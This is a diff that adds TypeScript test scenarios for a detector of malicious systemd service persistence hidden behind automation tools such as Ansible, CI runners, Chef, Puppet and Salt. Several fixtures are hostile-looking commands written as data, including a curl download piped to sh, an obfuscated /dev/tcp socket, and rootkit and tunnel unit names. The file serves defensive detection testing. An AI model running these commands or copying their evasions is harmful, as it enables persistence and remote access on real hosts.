@@ -1,0 +1,184 @@
+import { ran, scenarios, wrote } from './scenario.ts';
+
+const ENABLE = 'systemctl enable --now updater.service';
+const USER_ENABLE = 'systemctl --user enable updater.service';
+const ANSIBLE = '.ansible/tmp/ansible-tmp-1763911001.44-20817-1143/AnsiballZ_systemd.py';
+const GUID = '2f0c8a1e-7f35-4e2b-9a61-0a5a7f7c9d10';
+const CHEF = '/opt/chef/embedded/bin/ruby /usr/bin/chef-client';
+const PUPPET = '/opt/puppetlabs/puppet/bin/ruby /opt/puppetlabs/puppet/bin/puppet';
+const DEB_INVOKE = '/usr/bin/deb-systemd-invoke start updater.service';
+
+/** systemctl below a tool of the host, whose command line is to be judged. */
+function below(parent: string, line: string, grandparent = 'systemd') {
+  return ran('root', ENABLE, parent, line, grandparent);
+}
+
+/** A step of Buildkite, whose code is there to read. */
+function step(code: string) {
+  return ran('buildkite-agent', USER_ENABLE, 'bash', `/bin/bash -e -c ${code}`, 'buildkite-agent');
+}
+
+const named = (unit: string) =>
+  ran('root', `systemctl enable --now ${unit}`, 'python3', `/usr/bin/python3 /root/${ANSIBLE}`, 'sh');
+
+/** Attacks behind the disguise of a tool: what gives them away makes them likely-malicious. */
+export const maliciousDisguiseScenarios = scenarios('malicious', 'disguise', [
+  ["code behind Ansible's module", below('python3', `/usr/bin/python3 /root/${ANSIBLE} -c import os`, 'sh')],
+  ["a script behind Ansible's module", below('python3', `/usr/bin/python3 /root/${ANSIBLE} /srv/x.py`, 'sh')],
+  [
+    "code behind a step's script",
+    below('sh', 'sh -xe /opt/jenkins/workspace/a@tmp/durable-1/script.sh -c /srv/x', 'java'),
+  ],
+  [
+    'code behind a run step',
+    ran('runner', USER_ENABLE, 'bash', `bash -e /home/runner/work/_temp/${GUID}.sh -c x`, 'Runner.Worker'),
+  ],
+  ['code behind a scriptlet', below('sh', 'sh /var/tmp/rpm-tmp.AbC123 -c /usr/bin/x', 'python3')],
+  [
+    "code behind cloud-init's script",
+    below('sh', 'sh /var/lib/cloud/instance/scripts/runcmd -c x', 'python3'),
+  ],
+  ['a step that runs a file in /tmp', step('/tmp/x & systemctl --user enable updater')],
+  ['a step that sources a file in /tmp', step('. /tmp/x; systemctl --user enable updater')],
+  ['a step that goes to /var/tmp', step('cd /var/tmp/x; ./run; systemctl --user enable updater')],
+  ['a step that runs a hidden file', step('nohup ~/.cache/.d/x & systemctl --user enable updater')],
+  ['a step that hands over a file in /var/tmp', step('bash /var/tmp/a.sh')],
+  ['a step that downloads from an address without a scheme', step('curl 203.0.113.9/a -o a; sh a')],
+  ['a step that hides a network file in quotes', step("exec 3<>/dev/t''cp/203.0.113.9/443")],
+  ['a step of zsh', step('zmodload zsh/net/tcp && ztcp 203.0.113.9 443')],
+  ['a unit of an implant', named('diamorphine.service')],
+  ["gsocket's unit", named('defunct.service')],
+  ["gsocket's other unit", named('gs-dbus')],
+  ['a unit of a tunnel', named('ngrok.service')],
+  ['a thread of the device mapper', named('kdmtmpflush')],
+  [
+    "the host's root",
+    ran(
+      'root',
+      'systemctl --root=/host enable updater',
+      'python3',
+      `/usr/bin/python3 /root/${ANSIBLE}`,
+      'sh',
+    ),
+  ],
+]);
+
+/** Quiet attacks behind such a disguise: nothing proves them, and nothing may excuse them. */
+export const quietDisguiseScenarios = scenarios('ambiguous', 'disguise', [
+  ['perl with another search path', below('perl', `/usr/bin/perl -I/srv/lib ${DEB_INVOKE}`, 'sh')],
+  ['perl with a module', below('perl', `/usr/bin/perl -MEvil ${DEB_INVOKE}`, 'sh')],
+  ['perl with a debugger', below('perl', `/usr/bin/perl -wd:Evil ${DEB_INVOKE}`, 'sh')],
+  ['perl with a module apart', below('perl', `/usr/bin/perl -m Evil ${DEB_INVOKE}`, 'sh')],
+  ['ruby with a library', below('ruby', `/opt/chef/embedded/bin/ruby -r/srv/x.rb /usr/bin/chef-client`)],
+  ['ruby with a search path', below('ruby', `/opt/chef/embedded/bin/ruby -I /srv -rx /usr/bin/chef-client`)],
+  [
+    'bash with a start-up file',
+    below('bash', 'bash --rcfile /srv/rc /opt/jenkins/workspace/a@tmp/durable-1/script.sh', 'java'),
+  ],
+  [
+    'node with a module',
+    ran(
+      'runner',
+      USER_ENABLE,
+      'node',
+      '/home/runner/externals/node20/bin/node --require=/srv/x.js /home/runner/work/_actions/a/index.js',
+      'Runner.Worker',
+    ),
+  ],
+  ['Chef with a configuration in /tmp', below('ruby', `${CHEF} -c /tmp/client.rb`)],
+  ['Chef without a server', below('ruby', `${CHEF} -z -o app`, 'bash')],
+  ['Chef with another server', below('ruby', `${CHEF} --server https://chef.example.net`)],
+  [
+    'Chef Solo with recipes from elsewhere',
+    below('ruby', '/opt/chef/embedded/bin/ruby /usr/bin/chef-solo -r https://x.example.net/r.tgz'),
+  ],
+  ['Puppet with another server', below('ruby', `${PUPPET} agent -t --server=puppet.example.net`)],
+  ['Puppet with a command before it', below('ruby', `${PUPPET} agent -t --prerun_command /srv/x`)],
+  ['Puppet that applies a file named agent', below('ruby', `${PUPPET} apply /srv/agent agent`, 'bash')],
+  [
+    'Salt with other states',
+    below('python3', '/usr/bin/python3 /usr/bin/salt-call --local --file-root=/srv/x state.apply'),
+  ],
+  [
+    'Salt that runs a command',
+    below('python3', '/usr/bin/python3 /usr/bin/salt-call --local cmd.run systemctl', 'bash'),
+  ],
+  [
+    'Salt with a configuration in /var/tmp',
+    below('python3', '/usr/bin/python3 /usr/bin/salt-minion -c /var/tmp/s'),
+  ],
+  [
+    'cloud-init with another file',
+    below('python3', '/usr/bin/python3 /usr/bin/cloud-init --file /srv/u init'),
+  ],
+  [
+    'one module of cloud-init',
+    below('python3', '/usr/bin/python3 /usr/bin/cloud-init single --name runcmd', 'sh'),
+  ],
+  [
+    'dnf with a package of a URL',
+    below('python3', '/usr/bin/python3 /usr/bin/dnf install https://x.example.net/x.rpm', 'bash'),
+  ],
+  [
+    'dnf with a package in /tmp',
+    below('python3', '/usr/bin/python3 /usr/bin/dnf install /tmp/x.rpm', 'bash'),
+  ],
+  [
+    'dnf without signatures',
+    below('python3', '/usr/bin/python3 /usr/bin/dnf --nogpgcheck install x', 'bash'),
+  ],
+  [
+    'dnf with a setting for signatures',
+    below('python3', '/usr/bin/python3 /usr/bin/dnf --setopt=gpgcheck=0 install x', 'bash'),
+  ],
+  [
+    'needrestart with another configuration',
+    below('perl', '/usr/bin/perl /usr/sbin/needrestart -c /srv/n.conf', 'sh'),
+  ],
+  ['a step whose code breaks off', step('make deploy && …')],
+  [
+    "a module in the home of a server's account",
+    below('python3', `/usr/bin/python3 /home/tomcat/${ANSIBLE}`, 'sudo'),
+  ],
+  [
+    'a module under an account that is named like root',
+    ran('Root', ENABLE, 'python3', `/usr/bin/python3 /root/${ANSIBLE}`, 'sh'),
+  ],
+  ["root's shell without a password", named('debug-shell.service')],
+  ['a unit that is named by a slip of the finger', named('sshdd.service')],
+  ['two neighbours swapped', named('cornd.service')],
+  [
+    'another host',
+    ran('root', 'systemctl -H root@192.0.2.9 enable x', 'python3', `/usr/bin/python3 /root/${ANSIBLE}`, 'sh'),
+  ],
+  [
+    'a file in the view of a unit',
+    ran(
+      'root',
+      'systemctl bind x.service /opt/x /start',
+      'python3',
+      `/usr/bin/python3 /root/${ANSIBLE}`,
+      'sh',
+    ),
+  ],
+  [
+    'a drop-in from standard input',
+    ran(
+      'root',
+      'systemctl edit --stdin --drop-in=start ssh',
+      'python3',
+      `/usr/bin/python3 /root/${ANSIBLE}`,
+      'sh',
+    ),
+  ],
+  [
+    'a module that writes below a server',
+    wrote(
+      'postgres1',
+      '/etc/systemd/system/x.service',
+      'python3',
+      `/usr/bin/python3 /home/tomcat/${ANSIBLE}`,
+      'sh',
+    ),
+  ],
+]);
